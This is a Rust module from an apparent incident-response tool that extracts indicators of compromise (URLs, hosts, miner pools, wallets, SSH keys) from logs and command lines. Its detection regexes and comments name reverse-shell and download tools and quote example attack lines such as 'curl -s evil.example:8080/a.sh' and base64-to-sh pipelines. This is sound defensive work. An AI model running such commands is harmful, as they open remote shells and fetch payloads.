//! Indicators of compromise in text, one extractor for every source (log records and the
//! commands decoded from them, process command lines, the content of dropped or changed
//! files): URLs, hosts, `host:port` endpoints, ports, miner pools and wallets, SSH public keys,
//! each with the role the text gives it; and the merge of the log hits' indicators per bundle.

use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::sync::LazyLock;

use base64::Engine as _;
use regex::Regex;
use serde::Serialize;
use sha2::{Digest, Sha256};

use super::jndi::JndiInfo;
use crate::model::{role, Locator, Timestamp};

pub(crate) use crate::model::{IocKind, IocRef};

/// Indicators kept from one text (a record, a command line, a file's head).
const MAX_PER_TEXT: usize = 256;
/// Characters of an SSH key comment kept.
const COMMENT_MAX: usize = 80;

/// What a text is, which decides what may be taken from it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Source {
    /// A log record: a bare `ip:port` there is a client's source port or a listener, not an
    /// indicator; bare addresses are `mentioned`.
    Record,
    /// A command line, a script, a cron or configuration file: every shape; a bare
    /// `ip:port` is where the command connects.
    Command,
    /// The printable strings of a binary: only shapes that are no accident (URLs on an IP
    /// address, with a port or with a non-web scheme; `ip:port`; pools, wallets, keys), never
    /// a bare address or a web URL on a name (every binary quotes its project's site).
    Binary,
}

/// An indicator over the whole bundle.
#[derive(Clone, Debug, Serialize)]
pub struct Ioc {
    #[serde(rename = "type")]
    pub kind: IocKind,
    pub value: String,
    /// Hits carrying it.
    pub count: usize,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub first_seen: Option<Timestamp>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub last_seen: Option<Timestamp>,
    /// Roles it plays: `request-source`, `callback`, `payload-server`, `mining-pool`...
    pub roles: BTreeSet<&'static str>,
    /// Indexes into `log_hits`.
    pub hits: Vec<usize>,
    /// Where the first hits carrying it are (at most 20).
    pub locators: Vec<Locator>,
}

fn re(s: &str) -> Regex {
    Regex::new(s).expect("valid built-in regex")
}

static URL: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:https?|ldaps?|rmi|dns|iiop|corba|nis|nds|ftp|tftp|telnet|wss?|tcp|udp|socks[45]h?|stratum2?\+(?:tcp|ssl|tls))://[^\s\x22'<>`|;(){}\[\]\\,^]+",
    )
});
/// A bare IPv4 address; not after `/` (`Chrome/131.0.0.0` is a version; URLs, `/dev/tcp/`
/// paths and schemeless downloads are read on their own).
static IPV4: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?:^|[^0-9A-Za-z_./])(?:[0-9]{1,3}\.){3}[0-9]{1,3}(?:[^0-9A-Za-z_.]|\.?$)"));
/// A bare `ip:port` (not a URL's, not in a longer `a:b:c`).
static IP_PORT: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?:^|[^0-9A-Za-z_.:/])(?:[0-9]{1,3}\.){3}[0-9]{1,3}:[0-9]{1,5}(?:[^0-9A-Za-z_.:]|$)")
});
static DEV_TCP: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)/dev/(?:tcp|udp)/([\w.\-]+)/(\d{1,5})|/inet/(?:tcp|udp)/\d+/([\w.\-]+)/(\d{1,5})")
});
/// `nc`, `ncat`, `netcat`, `telnet` and their arguments up to the end of the command.
static NC: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)(?:^|[\s;|&(`'\x22/{,])(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd|telnet|rcat)[\s,]+[^\n;|&)`}]*",
    )
});
/// socat addresses that connect: `TCP:host:port`, `OPENSSL:host:port`...
static SOCAT: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)(?:^|[\s,'\x22])(?:tcp[46]?|tcp[46]?-connect|openssl(?:-connect)?|ssl|udp[46]?(?:-connect|-sendto)?|socks4a?|proxy)\s*:\s*([\w.\-]+|\[[0-9a-f:.]+\])[:,](\d{1,5})\b",
    )
});
/// Sockets opened in code: `fsockopen("h",p)`, `connect(("h",p))`, `TCPSocket.new("h",p)`,
/// `new Socket("h",p)`, Perl's `PeerAddr => "h:p"`.
static CONNECT: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)(?:fsockopen|pfsockopen|TCPSocket\.(?:new|open)|TCPClient|connect|create_connection|Socket)\(\s*\(?\s*['"]([\w.\-]+)['"]\s*,\s*['"]?(\d{1,5})|PeerAddr\s*=>\s*['"]([\w.\-]+):(\d{1,5})"#,
    )
});
/// A miner's pool option: `-o host:port`, `--url=stratum+tcp://host:port`, `--pool host:port`,
/// and `"url": "host:port"` in an XMRig configuration.
static POOL: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)(?:(?:^|[\s'"])(?:-o|--url|-url|--pool|-P)(?:\s+|=)['"]?|"url"\s*:\s*")(?:(?:stratum2?\+(?:tcp|ssl|tls)|stratum|ssl|tcp|wss?)://)?([\w.\-]+|\[[0-9a-f:.]+\]):(\d{1,5})\b"#,
    )
});
/// Words that make a line a miner's: its options, names and protocol.
static MINER_WORDS: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)xmrig|stratum|donate-level|--algo|\s-a\s+(?:rx|cn|randomx|cryptonight|kawpow|ethash|argon2)|--coin\b|--rig-id|\s-u\s|--user[\s=]|--userpass|\s-k(?:\s|$)|--keepalive|--nicehash|cpuminer|minerd|ccminer|ethminer|lolminer|nbminer|nanominer|kdevtmpfsi|kinsing|"pools"|\bwallet\b|\bminer\b|\bmining\b|\bpool\b"#,
    )
});
/// Monero: standard and sub-addresses (95 characters), integrated addresses (106).
static XMR: LazyLock<Regex> =
    LazyLock::new(|| re(r"\b[48][0-9AB][1-9A-HJ-NP-Za-km-z]{93}(?:[1-9A-HJ-NP-Za-km-z]{11})?\b"));
/// Bitcoin (base58 and bech32) and Ethereum addresses: wallets only next to miner words.
static COIN: LazyLock<Regex> = LazyLock::new(|| {
    re(r"\b(?:[13][1-9A-HJ-NP-Za-km-z]{25,34}|bc1[02-9ac-hj-np-z]{11,71}|0x[0-9a-fA-F]{40})\b")
});
static SSH_KEY: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?:^|[^\w-])(ssh-ed25519|ssh-rsa|ssh-dss|ecdsa-sha2-nistp(?:256|384|521)|sk-ssh-ed25519@openssh\.com|sk-ecdsa-sha2-nistp256@openssh\.com)[ \t]+(AAAA[A-Za-z0-9+/]{8,}={0,3})([ \t]+[^\r\n]*)?",
    )
});
/// A download tool and its arguments: a schemeless target (`wget 1.2.3.4/x`) is a payload server.
static FETCH: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)(?:^|[\s;|&(`'\x22/{,])(?:wget|curl|fetch|tftp|lwp-download)[\s,]+[^\n;|&)`}]*")
});
static SCHEMELESS: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)^((?:\d{1,3}\.){3}\d{1,3}|[a-z0-9][a-z0-9.\-]*\.[a-z]{2,})(?::(\d{1,5}))?(/\S*)?$")
});
/// Literal triggers of the extractors: one case-insensitive pass tells which regexes can
/// match at all, so a text runs only those.
const TRIGGERS: &[(&str, u16)] = &[
    ("://", T_URL),
    ("/dev/tcp", T_DEV),
    ("/dev/udp", T_DEV),
    ("/inet/", T_DEV),
    ("sockopen", T_CONNECT),
    ("tcpsocket", T_CONNECT),
    ("tcpclient", T_CONNECT),
    ("connect", T_CONNECT),
    ("socket(", T_CONNECT),
    ("peeraddr", T_CONNECT),
    ("tcp", T_SOCAT),
    ("ssl", T_SOCAT),
    ("udp", T_SOCAT),
    ("socks", T_SOCAT),
    ("proxy", T_SOCAT),
    ("nc ", T_NC),
    ("nc\t", T_NC),
    ("nc,", T_NC),
    ("nc.", T_NC),
    ("ncat", T_NC),
    ("netcat", T_NC),
    ("telnet", T_NC),
    ("rcat", T_NC),
    ("ssh-", T_SSH),
    ("ecdsa-sha2", T_SSH),
    ("wget", T_FETCH),
    ("curl", T_FETCH),
    ("fetch", T_FETCH),
    ("tftp", T_FETCH),
    ("lwp-download", T_FETCH),
    ("xmrig", T_MINER),
    ("stratum", T_MINER),
    ("donate-level", T_MINER),
    ("--algo", T_MINER),
    ("--coin", T_MINER),
    ("--rig-id", T_MINER),
    ("-u ", T_MINER),
    ("--user", T_MINER),
    ("--keepalive", T_MINER),
    ("--nicehash", T_MINER),
    ("miner", T_MINER),
    ("mining", T_MINER),
    ("kdevtmpfsi", T_MINER),
    ("kinsing", T_MINER),
    ("pool", T_MINER),
    ("wallet", T_MINER),
    (" -a ", T_MINER),
];
const T_URL: u16 = 1;
const T_DEV: u16 = 1 << 1;
const T_CONNECT: u16 = 1 << 2;
const T_SOCAT: u16 = 1 << 3;
const T_NC: u16 = 1 << 4;
const T_SSH: u16 = 1 << 5;
const T_FETCH: u16 = 1 << 6;
const T_MINER: u16 = 1 << 7;

static TRIGGER_AC: LazyLock<Option<aho_corasick::AhoCorasick>> = LazyLock::new(|| {
    aho_corasick::AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(TRIGGERS.iter().map(|(t, _)| t))
        .ok()
});

/// Which extractors may match in `t` (all of them if the automaton could not be built).
fn triggers(t: &str) -> u16 {
    let Some(ac) = TRIGGER_AC.as_ref() else { return u16::MAX };
    let mut bits = 0;
    for m in ac.find_overlapping_iter(t) {
        bits |= TRIGGERS[m.pattern().as_usize()].1;
    }
    bits
}

static ACCESS_SOURCE: LazyLock<Regex> = LazyLock::new(|| {
    re(r#"^(?:\S+\s+)?((?:\d{1,3}\.){3}\d{1,3}|[0-9a-fA-F:]*:[0-9a-fA-F:]+) \S+ \S+ \[[^\]]+\] ""#)
});

/// Indicators of one log hit: from its record text (decoded when it was), its JNDI lookup and
/// its decoded commands. `raw_record` gives the access-log request source.
pub(crate) fn extract(
    raw_record: &[u8],
    text: &str,
    jndi: Option<&JndiInfo>,
    commands: &[String],
) -> Vec<IocRef> {
    let mut out = Found { ports: true, ..Default::default() };
    let head = String::from_utf8_lossy(&raw_record[..raw_record.len().min(512)]);
    if let Some(c) = ACCESS_SOURCE.captures(&head) {
        if let Some(ip) = out.host(&c[1], role::REQUEST_SOURCE) {
            out.skip_ip = Some(ip);
        }
    }
    if let Some(j) = jndi {
        if let Some(h) = &j.host {
            for part in h.split('#') {
                match j.port {
                    Some(p) => out.endpoint(part, &p.to_string(), role::CALLBACK),
                    None => {
                        out.host(part, role::CALLBACK);
                    }
                }
            }
        }
        if j.host.is_some() && !j.scheme.is_empty() {
            let url = format!(
                "{}://{}{}{}",
                j.scheme,
                j.host.as_deref().unwrap_or(""),
                j.port.map(|p| format!(":{p}")).unwrap_or_default(),
                j.path
            );
            out.push(IocKind::Url, url, role::CALLBACK);
        }
    }
    // `+` is a space in a query string: `wget+http://h/x+-O+/tmp/y` names `http://h/x`.
    let text = String::from_utf8_lossy(&super::decode::query_plus(text.as_bytes())).into_owned();
    out.text(&text, Source::Record);
    for c in commands {
        out.text(c, Source::Command);
    }
    out.finish()
}

/// Indicators of a text from `source` (ports only as part of `host:port` endpoints).
/// Command lines and scripts also give those of the commands they hide in base64
/// (`echo <b64> | base64 -d | sh`, `{echo,<b64>}|{base64,-d}|{bash,-i}`).
pub(crate) fn from_text(text: &str, source: Source) -> Vec<IocRef> {
    let mut out = Found::default();
    out.text(text, source);
    if source != Source::Binary {
        for c in super::decode::shell_base64_payloads(text.as_bytes()) {
            out.text(&c, Source::Command);
        }
    }
    out.finish()
}

/// Indicators of a process command line (see [`from_text`]).
pub(crate) fn from_command(cmd: &str) -> Vec<IocRef> {
    from_text(cmd, Source::Command)
}

/// The indicators found so far in one text, and the request source not to list again.
#[derive(Default)]
struct Found {
    set: BTreeSet<IocRef>,
    /// Values listed, in any role.
    listed: HashSet<(IocKind, String)>,
    skip_ip: Option<String>,
    /// List an endpoint's port on its own too (the log indicators do; elsewhere the
    /// endpoint says it).
    ports: bool,
}

/// Matches of one text already read, by extractor (a script repeats its URL on every line).
#[derive(Default)]
struct Read<'t>(HashSet<(u8, &'t str)>);

impl<'t> Read<'t> {
    /// True the first time extractor `by` reads this match.
    fn first(&mut self, by: u8, m: Option<regex::Match<'t>>) -> bool {
        m.is_some_and(|m| self.0.insert((by, m.as_str())))
    }
}

impl Found {
    fn push(&mut self, kind: IocKind, value: String, role: &'static str) {
        if self.set.len() < MAX_PER_TEXT {
            self.listed.insert((kind, value.clone()));
            self.set.insert(IocRef { kind, value, role });
        }
    }

    /// Whether the value is already listed in any role.
    fn has(&self, kind: IocKind, value: &str) -> bool {
        self.listed.contains(&(kind, value.to_string()))
    }

    fn full(&self) -> bool {
        self.set.len() >= MAX_PER_TEXT
    }

    /// Record a host (IP address or DNS name) in `role`; its normal form when it is one.
    fn host(&mut self, host: &str, role: &'static str) -> Option<String> {
        let (kind, h) = normal_host(host)?;
        self.push(kind, h.clone(), role);
        Some(h)
    }

    /// Record `host:port`, the host and the port in `role`.
    fn endpoint(&mut self, host: &str, port: &str, role: &'static str) {
        let Some(p) = port.parse::<u16>().ok().filter(|p| *p > 0) else {
            self.host(host, role);
            return;
        };
        if let Some(h) = self.host(host, role) {
            if self.ports {
                self.push(IocKind::Port, p.to_string(), role);
            }
            self.push(IocKind::Endpoint, endpoint_value(&h, p), role);
        }
    }

    fn text<'t>(&mut self, t: &'t str, source: Source) {
        let on = triggers(t);
        let mut read: Read<'t> = Read::default();
        if on & T_URL != 0 {
            self.urls(t, source, &mut read);
        }
        if on & T_SSH != 0 {
            self.ssh_keys(t, &mut read);
        }
        self.wallets(t, on & T_MINER != 0, &mut read);
        if self.full() {
            return;
        }
        if on & T_DEV != 0 {
            for c in DEV_TCP.captures_iter(t) {
                if read.first(1, c.get(0)) {
                    let host = c.get(1).or(c.get(3)).map_or("", |m| m.as_str());
                    let port = c.get(2).or(c.get(4)).map_or("", |m| m.as_str());
                    self.endpoint(host, port, role::CALLBACK);
                }
            }
        }
        if on & T_CONNECT != 0 {
            for c in CONNECT.captures_iter(t) {
                if read.first(2, c.get(0)) {
                    let host = c.get(1).or(c.get(3)).map_or("", |m| m.as_str());
                    let port = c.get(2).or(c.get(4)).map_or("", |m| m.as_str());
                    self.endpoint(host, port, role::CALLBACK);
                }
            }
        }
        if on & T_SOCAT != 0 {
            for c in SOCAT.captures_iter(t) {
                if read.first(3, c.get(0)) {
                    self.endpoint(&c[1], &c[2], role::CALLBACK);
                }
            }
        }
        if on & T_NC != 0 {
            for m in NC.find_iter(t) {
                if read.first(4, Some(m)) {
                    let (tool, args) = tool_and_args(m.as_str());
                    if let Some((host, port)) = nc_target(tool, args) {
                        self.endpoint(host, port, role::CALLBACK);
                    }
                }
            }
        }
        if on & T_MINER != 0 {
            for c in POOL.captures_iter(t) {
                let at = c.get(0).map_or(0, |m| m.start());
                if MINER_WORDS.is_match(near(t, at)) && read.first(5, c.get(0)) {
                    self.endpoint(&c[1], &c[2], role::MINING_POOL);
                }
            }
        }
        if source != Source::Binary && on & T_FETCH != 0 {
            for m in FETCH.find_iter(t) {
                if read.first(6, Some(m)) {
                    self.schemeless(tool_and_args(m.as_str()).1);
                }
            }
        }
        // Bare `ip:port` and addresses, unless something more telling named them.
        if source != Source::Record {
            for m in IP_PORT.find_iter(t) {
                if !read.first(7, Some(m)) {
                    continue;
                }
                // The match holds a boundary byte each side: the address starts and ends with digits.
                let hit = m.as_str().trim_matches(|c: char| !c.is_ascii_digit());
                let Some((ip, port)) = hit.rsplit_once(':') else { continue };
                if let (true, Ok(p)) = (valid_ipv4(ip), port.parse::<u16>()) {
                    if p > 0 && !self.has(IocKind::Endpoint, &format!("{ip}:{p}")) {
                        self.endpoint(ip, port, role::CALLBACK);
                    }
                }
            }
        }
        if source != Source::Binary {
            for m in IPV4.find_iter(t) {
                let ip = m.as_str().trim_matches(|c: char| !c.is_ascii_digit());
                if !read.0.insert((8, ip)) {
                    continue;
                }
                if valid_ipv4(ip) && self.skip_ip.as_deref() != Some(ip) && !self.has(IocKind::Ip, ip) {
                    self.push(IocKind::Ip, ip.to_string(), role::MENTIONED);
                }
            }
        }
    }

    fn urls<'t>(&mut self, t: &'t str, source: Source, read: &mut Read<'t>) {
        for m in URL.find_iter(t) {
            if self.full() || !read.first(0, Some(m)) {
                continue;
            }
            let url = m.as_str().trim_end_matches(['.', ':', ')', '\'', ',']);
            let (scheme, rest) = url.split_once("://").unwrap_or(("", url));
            let scheme = scheme.to_ascii_lowercase();
            let role = if scheme.starts_with("stratum") {
                role::MINING_POOL
            } else if matches!(
                scheme.as_str(),
                "ldap"
                    | "ldaps"
                    | "rmi"
                    | "dns"
                    | "iiop"
                    | "corba"
                    | "nis"
                    | "nds"
                    | "tcp"
                    | "udp"
                    | "ws"
                    | "wss"
            ) || scheme.starts_with("socks")
            {
                role::CALLBACK
            } else if source == Source::Record && !fetched(&t[line_start(t, m.start())..m.start()]) {
                // A web URL in a record is a Referer, a User-Agent's site, a link: named, not
                // downloaded, unless a download tool or wget's own progress line precedes it.
                role::MENTIONED
            } else {
                role::PAYLOAD_SERVER
            };
            let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
            let authority = authority.rsplit('@').next().unwrap_or(authority);
            let (host, port) = match authority.rsplit_once(':') {
                Some((h, p)) if !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()) => (h, Some(p)),
                _ => (authority, None),
            };
            let web = matches!(scheme.as_str(), "http" | "https" | "ftp");
            if source == Source::Binary && web && port.is_none() && !valid_ipv4(host) {
                continue;
            }
            if normal_host(host.split('#').next().unwrap_or(host)).is_none() {
                continue;
            }
            self.push(IocKind::Url, url.to_string(), role);
            for part in host.split('#') {
                match port {
                    Some(p) => self.endpoint(part, p, role),
                    None => {
                        self.host(part, role);
                    }
                }
            }
        }
    }

    fn ssh_keys<'t>(&mut self, t: &'t str, read: &mut Read<'t>) {
        for c in SSH_KEY.captures_iter(t) {
            if !read.first(9, c.get(0)) {
                continue;
            }
            if let Some(v) = ssh_key_value(&c[1], &c[2], c.get(3).map_or("", |m| m.as_str())) {
                self.push(IocKind::SshKey, v, role::SSH_KEY);
            }
        }
    }

    fn wallets<'t>(&mut self, t: &'t str, miner: bool, read: &mut Read<'t>) {
        for m in XMR.find_iter(t) {
            self.push(IocKind::Wallet, m.as_str().to_string(), role::WALLET);
        }
        if !miner {
            return;
        }
        for m in COIN.find_iter(t) {
            let (w, at) = (m.as_str(), m.start());
            if !MINER_WORDS.is_match(near(t, at)) || !read.first(10, Some(m)) {
                continue;
            }
            if !w.starts_with(['1', '3']) || base58check(w) {
                self.push(IocKind::Wallet, w.to_string(), role::WALLET);
            }
        }
    }

    /// The targets of a download tool that carry no scheme: an address, or a name with a
    /// port or a path (`wget 1.2.3.4/x`, `curl -s evil.example:8080/a.sh`).
    fn schemeless(&mut self, args: &str) {
        for tok in args.split_whitespace() {
            if tok.starts_with(['>', '<'])
                || (tok.starts_with(|c: char| c.is_ascii_digit()) && tok.contains('>'))
            {
                break;
            }
            let tok = tok.trim_matches(['\'', '"']);
            if tok.starts_with('-') || tok.contains("://") {
                continue;
            }
            let Some(c) = SCHEMELESS.captures(tok) else { continue };
            let host = &c[1];
            let ip = valid_ipv4(host);
            if !(ip || c.get(2).is_some() || c.get(3).is_some()) {
                continue;
            }
            match c.get(2) {
                Some(p) => self.endpoint(host, p.as_str(), role::PAYLOAD_SERVER),
                None => {
                    self.host(host, role::PAYLOAD_SERVER);
                }
            }
        }
    }

    fn finish(self) -> Vec<IocRef> {
        tidy(self.set.into_iter().collect())
    }
}

/// Indicators sorted, each once, without `mentioned` entries of values listed in a more
/// telling role (the union of several sources' indicators).
pub(crate) fn tidy(mut refs: Vec<IocRef>) -> Vec<IocRef> {
    refs.sort();
    refs.dedup();
    let telling: BTreeSet<(IocKind, String)> =
        refs.iter().filter(|r| r.role != role::MENTIONED).map(|r| (r.kind, r.value.clone())).collect();
    refs.retain(|r| r.role != role::MENTIONED || !telling.contains(&(r.kind, r.value.clone())));
    refs
}

/// Start of the line of `t` holding byte `at`.
fn line_start(t: &str, at: usize) -> usize {
    t[..at].rfind('\n').map_or(0, |p| p + 1)
}

/// Whether the text before a URL on its line downloads it: a download tool or call in the
/// same command (after the last `|`, `;`, `&`, `(`, backquote or double quote that is not the
/// URL's own), or wget's progress line (`--2026-11-27 14:11:40--  http://...`).
fn fetched(before: &str) -> bool {
    let before = before.trim_end_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
    let command = before.rfind(['|', ';', '&', '(', '`', '"']).map_or(before, |p| &before[p + 1..]);
    FETCHED.is_match(command)
}

static FETCHED: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:wget|curl|fetch|tftp|lwp-download|lwp-request|invoke-webrequest|iwr|invoke-restmethod|irm|certutil|bitsadmin|urlopen|urlretrieve|file_get_contents|downloadstring|downloadfile|start-bitstransfer)\b|--\d{4}-\d\d-\d\d \d\d:\d\d:\d\d--",
    )
});

/// Bytes each side of a pool option or coin address searched for miner words.
const NEAR: usize = 300;

/// The text around byte `at` (a configuration file spreads a miner's settings over lines).
fn near(t: &str, at: usize) -> &str {
    let mut start = at.saturating_sub(NEAR);
    while !t.is_char_boundary(start) {
        start -= 1;
    }
    let mut end = (at + NEAR).min(t.len());
    while !t.is_char_boundary(end) {
        end += 1;
    }
    &t[start..end]
}

/// A tool's match split into its name and its arguments: `|nc -e sh h p` -> (`nc`, `-e sh h p`).
fn tool_and_args(m: &str) -> (&str, &str) {
    let m = m.trim_start_matches(|c: char| !c.is_ascii_alphanumeric());
    let end = m.find(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '.')).unwrap_or(m.len());
    (&m[..end], m[end..].trim_start_matches(|c: char| c.is_whitespace() || c == ','))
}

/// `host:port`, with IPv6 in brackets.
pub(crate) fn endpoint_value(host: &str, port: u16) -> String {
    if host.contains(':') {
        format!("[{host}]:{port}")
    } else {
        format!("{host}:{port}")
    }
}

/// A host's kind and normal form (lower case, no brackets or trailing dot; IPv4-mapped IPv6
/// folded to IPv4), or None when it is no host. `${sys:java.version}.cb.example` (a lookup
/// exfiltrating through DNS labels) gives the domain after the last unresolved lookup.
pub(crate) fn normal_host(host: &str) -> Option<(IocKind, String)> {
    let host = match host.rfind('}') {
        Some(p) if host.contains("${") => &host[p + 1..],
        _ => host,
    };
    let host = host.trim_matches(|c: char| c == '[' || c == ']' || c == '.').to_ascii_lowercase();
    if host.is_empty() || host.contains("${") {
        return None;
    }
    if valid_ipv4(&host) {
        return Some((IocKind::Ip, host));
    }
    if host.contains(':') {
        let v6 = host.parse::<std::net::Ipv6Addr>().ok()?;
        return Some(match v6.to_ipv4_mapped() {
            Some(v4) => (IocKind::Ip, v4.to_string()),
            None => (IocKind::Ip, v6.to_string()),
        });
    }
    let name_ok = host.len() <= 253
        && host.contains('.')
        && host.split('.').all(|l| {
            !l.is_empty() && l.len() <= 63 && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
        })
        && host
            .rsplit('.')
            .next()
            .is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()));
    name_ok.then_some((IocKind::Domain, host))
}

fn valid_ipv4(s: &str) -> bool {
    s.split('.').count() == 4
        && s.split('.').all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u16>().is_ok_and(|v| v <= 255))
        && s != "0.0.0.0"
}

/// The remote `host port` of an `nc`/`ncat`/`telnet` invocation; None for a listener.
fn nc_target<'a>(tool: &str, args: &'a str) -> Option<(&'a str, &'a str)> {
    let telnet = tool.eq_ignore_ascii_case("telnet");
    // Options whose value is the next word.
    let takes_value = |c: char| {
        if telnet {
            matches!(c, 'l' | 'e' | 'n' | 'b' | 'X' | 'k')
        } else {
            matches!(
                c,
                'e' | 'c' | 'w' | 's' | 'p' | 'i' | 'q' | 'x' | 'X' | 'I' | 'O' | 'T' | 'g' | 'G' | 'm' | 'W'
            )
        }
    };
    let mut words = args.split_whitespace();
    let mut positional: Vec<&str> = vec![];
    while let Some(w) = words.next() {
        if w.starts_with(['>', '<'])
            || (w.starts_with(|c: char| c.is_ascii_digit()) && w.contains(['>', '<']))
        {
            break;
        }
        if let Some(long) = w.strip_prefix("--") {
            if matches!(long, "listen" | "keep-open") {
                return None;
            }
            if !long.contains('=')
                && matches!(
                    long,
                    "exec" | "sh-exec" | "lua-exec" | "source" | "source-port" | "wait" | "proxy"
                )
            {
                words.next();
            }
            continue;
        }
        if let Some(short) = w.strip_prefix('-') {
            if !telnet && short.contains('l') {
                return None;
            }
            if short.chars().last().is_some_and(takes_value) {
                words.next();
            }
            continue;
        }
        positional.push(w.trim_matches(['\'', '"']));
        if positional.len() == 2 {
            break;
        }
    }
    match positional.as_slice() {
        [h, p] if p.bytes().all(|b| b.is_ascii_digit()) && normal_host(h).is_some() => Some((h, p)),
        _ => None,
    }
}

/// `SHA256:<base64 of the key's SHA-256, unpadded> <comment>`, the form `ssh-keygen -l`
/// prints; None unless the blob decodes to a key of the type it is written with.
pub(crate) fn ssh_key_value(kind: &str, b64: &str, rest: &str) -> Option<String> {
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
    let blob = STANDARD.decode(b64).or_else(|_| STANDARD_NO_PAD.decode(b64.trim_end_matches('='))).ok()?;
    let n = u32::from_be_bytes(blob.get(..4)?.try_into().ok()?) as usize;
    if blob.get(4..4 + n)? != kind.as_bytes() {
        return None;
    }
    let fp = STANDARD_NO_PAD.encode(Sha256::digest(&blob));
    // The comment runs to the end of the line; in a command it ends where the quoting or
    // the shell syntax around the key does (`echo "ssh-rsa AAAA... x@y" >> authorized_keys`).
    let comment = rest.trim_start();
    let end =
        comment.find(['"', '\'', '`', ';', '|', '&', '<', '>', '\\', '$', ')']).unwrap_or(comment.len());
    let comment: String = comment[..end].trim().chars().take(COMMENT_MAX).collect();
    Some(if comment.is_empty() { format!("SHA256:{fp}") } else { format!("SHA256:{fp} {comment}") })
}

/// Whether a base58 Bitcoin address carries a valid checksum.
fn base58check(s: &str) -> bool {
    const ALPHABET: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
    let mut bytes: Vec<u8> = vec![0; 25];
    for c in s.bytes() {
        let Some(mut carry) = ALPHABET.iter().position(|&a| a == c).map(|v| v as u32) else { return false };
        for b in bytes.iter_mut().rev() {
            carry += (*b as u32) * 58;
            *b = (carry & 0xff) as u8;
            carry >>= 8;
        }
        if carry != 0 {
            return false;
        }
    }
    let check = Sha256::digest(Sha256::digest(&bytes[..21]));
    check[..4] == bytes[21..]
}

/// Merge the indicators of all hits (`(hit index, time, locator, refs)`) per bundle.
pub(crate) fn aggregate<'a>(
    hits: impl Iterator<Item = (usize, Option<Timestamp>, &'a Locator, &'a [IocRef])>,
) -> Vec<Ioc> {
    let mut map: BTreeMap<(IocKind, String), Ioc> = BTreeMap::new();
    for (idx, time, loc, refs) in hits {
        for r in refs {
            let e = map.entry((r.kind, r.value.clone())).or_insert_with(|| Ioc {
                kind: r.kind,
                value: r.value.clone(),
                count: 0,
                first_seen: None,
                last_seen: None,
                roles: BTreeSet::new(),
                hits: Vec::new(),
                locators: Vec::new(),
            });
            e.roles.insert(r.role);
            if e.hits.last() != Some(&idx) {
                e.count += 1;
                e.hits.push(idx);
                if e.locators.len() < 20 {
                    e.locators.push(loc.clone());
                }
            }
            if let Some(t) = time {
                e.first_seen = Some(e.first_seen.map_or(t, |f| f.min(t)));
                e.last_seen = Some(e.last_seen.map_or(t, |l| l.max(t)));
            }
        }
    }
    map.into_values().collect()
}

#[cfg(test)]
mod tests;
